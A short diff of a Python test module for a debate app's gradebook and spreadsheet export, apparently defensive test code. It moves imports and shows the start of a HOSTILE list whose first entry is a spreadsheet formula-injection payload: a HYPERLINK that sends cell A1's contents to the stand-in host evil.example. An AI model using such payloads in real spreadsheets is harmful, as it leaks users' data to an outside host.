@@ -8,8 +8,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from debate.reports import gradebook, spreadsheet
-from debate.reports.model import Share, TakenPart
+from debate.subjects.results import gradebook
+from debate.subjects.results.model import Share, TakenPart
+from debate.web import spreadsheet
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example?"&A1;"click")',
